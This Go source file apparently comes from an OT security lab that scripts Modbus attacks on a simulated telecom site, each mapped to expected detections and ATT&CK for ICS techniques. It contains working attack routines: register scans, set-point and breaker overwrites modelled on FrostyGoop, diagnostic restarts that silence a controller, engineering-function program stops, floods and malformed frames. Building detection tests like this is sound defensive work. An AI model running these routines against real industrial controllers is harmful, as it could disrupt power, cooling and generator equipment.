package script

import (
	"errors"
	"time"

	"github.com/goburrow/modbus"

	"github.com/roje-ot/roje/cmd/roje-lab/modbusstation"
)

// actsModbus are acts against the telecom site.
var actsModbus = []Act{
	{Name: "modbus-rogue-master", Title: "a visitor's laptop reads a rectifier and then writes to it", Actor: "visitor", Victims: []string{"rect-1"},
		Expect: []string{"A01", "C01"}, Techniques: []string{"T1692.001", "T0848"}, Run: modbusAct(func(m *modbusstation.Master, s *Stage, a Act) error {
			return chain(
				call2(m.ReadHoldingRegisters, 0, 8),
				call2(m.WriteSingleRegister, currentLimit, 40),
				call2(m.WriteSingleCoil, breakerLoad, 0xff00),
				call2(m.ReadHoldingRegisters, 0, 8))
		})},
	{Name: "modbus-function-scan", Title: "every function code from 1 to 127 is tried on a rectifier", Actor: "visitor", Victims: []string{"rect-2"},
		Expect: []string{"R04", "A01", "P14"}, Techniques: []string{"T0888", "T0848"}, Run: modbusAct(functionScan)},
	{Name: "modbus-unit-scan", Title: "all units behind the battery gateway are tried", Actor: "visitor", Victims: []string{"battery"},
		Expect: []string{"R03", "A01"}, Techniques: []string{"T0888", "T0848"}, Run: modbusAct(func(m *modbusstation.Master, s *Stage, a Act) error {
			for unit := byte(1); unit <= 40; unit++ {
				if _, err := m.To(unit).ReadHoldingRegisters(0, 1); ignore(err) != nil {
					return err
				}
				s.host(a.Actor).Sleep(60 * time.Millisecond)
			}
			return nil
		})},
	{Name: "modbus-address-scan", Title: "the registers of the cooling controller are searched block by block", Actor: "visitor", Victims: []string{"cooling"},
		Expect: []string{"R05", "A01"}, Techniques: []string{"T0861", "T0848"}, Run: modbusAct(func(m *modbusstation.Master, s *Stage, a Act) error {
			for at := uint16(0); at < 1200; at += 20 {
				if _, err := m.ReadHoldingRegisters(at, 10); ignore(err) != nil {
					return err
				}
				s.host(a.Actor).Sleep(40 * time.Millisecond)
			}
			return nil
		})},
	{Name: "modbus-identify", Title: "a visitor asks a genset controller who it is, in every way there is", Actor: "visitor", Victims: []string{"genset"},
		Expect: []string{"R06", "A01"}, Techniques: []string{"T0888", "T0848"}, Run: modbusAct(func(m *modbusstation.Master, s *Stage, a Act) error {
			return chain(ask(m, 43, 14, 1, 0), ask(m, 43, 14, 2, 0), ask(m, 43, 14, 4, 3), ask(m, 17), ask(m, 7), ask(m, 11), ask(m, 12))
		})},
	{Name: "modbus-frostygoop", Title: "from outside, controllers are read and their set-points overwritten, as FrostyGoop did", Actor: "outsider", Victims: []string{"cooling", "rect-1"},
		Expect: []string{"C08", "A04", "A01", "C01"}, Techniques: []string{"T0836", "T0801", "T0883", "T0848"}, Run: frostyGoop},
	{Name: "modbus-write-all", Title: "every register of a rectifier is overwritten, as smod's writeAllRegister does", Actor: "visitor", Victims: []string{"rect-2"},
		Expect: []string{"C03", "A01"}, Techniques: []string{"T0806", "T1692.001"}, Run: modbusAct(func(m *modbusstation.Master, s *Stage, a Act) error {
			for at := range uint16(40) {
				if _, err := m.WriteSingleRegister(at, 0xffff); err != nil {
					return err
				}
				s.host(a.Actor).Sleep(50 * time.Millisecond)
			}
			return nil
		})},
	{Name: "modbus-diagnostics", Title: "a genset controller is restarted and then silenced by diagnostics", Actor: "visitor", Victims: []string{"genset"},
		Expect: []string{"C18", "A01"}, Techniques: []string{"T0814", "T0848"}, Run: modbusAct(func(m *modbusstation.Master, s *Stage, a Act) error {
			err := chain(ask(m, 8, 0, 0, 0x12, 0x34), ask(m, 8, 0, 10, 0, 0), ask(m, 8, 0, 1, 0xff, 0))
			if err == nil {
				err = m.Tell(8, 0, 4, 0, 0)
			}
			s.host(a.Actor).Sleep(8 * time.Second) // the site's own master gets no answer now
			return err
		})},
	{Name: "modbus-engineering", Title: "a visitor takes a controller over with an engineering function, uploads its program and stops it", Actor: "visitor", Victims: []string{"genset"},
		Expect: []string{"A08", "A01"}, Techniques: []string{"T0843", "T0858"}, Run: modbusAct(func(m *modbusstation.Master, s *Stage, a Act) error {
			return chain(ask(m, 90, 0, 0x02), ask(m, 90, 0, 0x03, 0), ask(m, 90, 0, 0x10, 0x29, 0x55, 0, 0), ask(m, 90, 0x21, 0x12),
				ask(m, 90, 0x21, 0x33, 0, 1), ask(m, 90, 0x21, 0x34, 0, 1, 0, 0), ask(m, 90, 0x21, 0x35, 0, 1), ask(m, 90, 0x21, 0x41, 0xff, 0), ask(m, 90, 0x21, 0x11))
		})},
	{Name: "modbus-broadcast", Title: "a coil is written on all units at once", Actor: "visitor", Victims: []string{"battery"},
		Expect: []string{"C14", "A01"}, Techniques: []string{"T1692.001"}, Run: modbusAct(func(m *modbusstation.Master, s *Stage, a Act) error {
			return errors.Join(m.To(0).Tell(5, 0, 3, 0xff, 0), m.To(0).Tell(6, 0, 5, 0, 1))
		})},
	{Name: "modbus-device-as-master", Title: "the genset controller, which only ever answers, reads the cooling controller", Actor: "genset", Victims: []string{"cooling"},
		Expect: []string{"A03", "A01"}, Techniques: []string{"T0848"}, Run: modbusAct(func(m *modbusstation.Master, s *Stage, a Act) error {
			for range 6 {
				if _, err := m.ReadInputRegisters(0, 6); err != nil {
					return err
				}
				s.host(a.Actor).Sleep(500 * time.Millisecond)
			}
			return nil
		})},
	{Name: "modbus-malformed", Title: "headers and quantities that the standard forbids", Actor: "visitor", Victims: []string{"rect-1"},
		Expect: []string{"P01", "P02", "A01"}, Techniques: []string{"T0814"}, Malformed: true, Run: modbusMalformed},
	{Name: "modbus-flood", Title: "a rectifier is asked four hundred times in four seconds", Actor: "visitor", Victims: []string{"rect-1"},
		Expect: []string{"B03", "A01"}, Techniques: []string{"T0814"}, Run: modbusAct(func(m *modbusstation.Master, s *Stage, a Act) error {
			for range 400 {
				if _, err := m.ReadHoldingRegisters(0, 1); err != nil {
					return err
				}
			}
			return nil
		})},
}

// modbusAct connects the actor to its first victim.
func modbusAct(do func(*modbusstation.Master, *Stage, Act) error) func(*Stage, Act) error {
	return func(s *Stage, a Act) error { return s.modbusTo(a, a.Victims[0], do) }
}

func (s *Stage) modbusTo(a Act, victim string, do func(*modbusstation.Master, *Stage, Act) error) error {
	conn, err := s.dial(a.Actor, "tcp", victim, ":502")
	if err != nil {
		return err
	}
	defer conn.Close()
	return do(modbusstation.NewMaster(conn, s.host(a.Actor), s.Tally).To(1), s, a)
}

// ignore drops exceptions: the answer that a scan waits for.
func ignore(err error) error {
	var exception *modbus.ModbusError
	if errors.As(err, &exception) {
		return nil
	}
	return err
}

// chain does one thing after the other until one fails; exceptions are answers.
func chain(steps ...func() error) error {
	for _, do := range steps {
		if err := ignore(do()); err != nil {
			return err
		}
	}
	return nil
}

func ask(m *modbusstation.Master, code byte, data ...byte) func() error {
	return func() error { _, err := m.Ask(code, data...); return err }
}

func call2(f func(a, b uint16) ([]byte, error), a, b uint16) func() error {
	return func() error { _, err := f(a, b); return err }
}

// functionScan tries every code with as much data as a read needs; those that write get an illegal quantity.
func functionScan(m *modbusstation.Master, s *Stage, a Act) error {
	for code := byte(1); code < 128; code++ {
		data := []byte{0, 0, 0, 1}
		switch code {
		case 7, 11, 12, 17:
			data = nil
		case 15:
			data = []byte{0, 0, 0, 0, 0}
		case 16:
			data = []byte{0, 0, 0, 0, 0}
		case 20:
			data = []byte{7, 6, 0, 1, 0, 0, 0, 1}
		case 21:
			data = []byte{9, 6, 0, 9, 0, 0, 0, 1, 0, 0}
		case 22:
			data = []byte{0, 1, 0xff, 0xff, 0, 0}
		case 23:
			data = []byte{0, 0, 0, 1, 0, 0, 0, 0, 0}
		case 24:
			data = []byte{0, 0}
		case 43:
			data = []byte{14, 1, 0}
		case 90:
			data = []byte{0, 1}
		}
		if _, err := m.Ask(code, data...); ignore(err) != nil {
			return err
		}
		s.host(a.Actor).Sleep(30 * time.Millisecond)
	}
	return nil
}

// frostyGoop reads the holding registers of each controller and writes them, one by one and in blocks.
func frostyGoop(s *Stage, a Act) error {
	for _, victim := range a.Victims {
		err := s.modbusTo(a, victim, func(m *modbusstation.Master, s *Stage, a Act) error {
			err := chain(call2(m.ReadHoldingRegisters, 0, 16))
			for at := range uint16(8) {
				if _, e := m.WriteSingleRegister(at, 1); err == nil {
					err = e
				}
				s.host(a.Actor).Sleep(300 * time.Millisecond)
			}
			if err == nil {
				_, err = m.WriteMultipleRegisters(8, 4, make([]byte, 8))
			}
			return err
		})
		if err != nil {
			return err
		}
	}
	return nil
}

// modbusMalformed sends what no master may: each on its own connection, as a device may hang up.
func modbusMalformed(s *Stage, a Act) error {
	for _, b := range [][]byte{
		{0, 1, 0, 7, 0, 6, 1, 3, 0, 0, 0, 1},           // protocol identifier 7
		{0, 2, 0, 0, 0x01, 0x40, 1, 3, 0, 0, 0, 1},     // length 320
		{0, 3, 0, 0, 0, 6, 1, 3, 0, 0, 0x07, 0xd0},     // 2000 registers
		{0, 4, 0, 0, 0, 6, 1, 5, 0, 3, 0x12, 0x34},     // a coil that is neither on nor off
		{0, 5, 0, 0, 0, 9, 1, 16, 0, 0, 0, 2, 2, 0, 1}, // byte count of one register for two
		{0, 6, 0, 0, 0, 6, 1, 0, 0, 0, 0, 1},           // function code 0
		{0, 7, 0, 0, 0, 3, 1, 3, 0},                    // a read that ends early
	} {
		conn, err := s.dial(a.Actor, "tcp", a.Victims[0], ":502")
		if err != nil {
			return err
		}
		m := modbusstation.NewMaster(conn, s.host(a.Actor), s.Tally)
		if err := m.Raw(b); err != nil {
			return err
		}
		s.host(a.Actor).Sleep(400 * time.Millisecond)
		conn.Close()
	}
	return nil
}
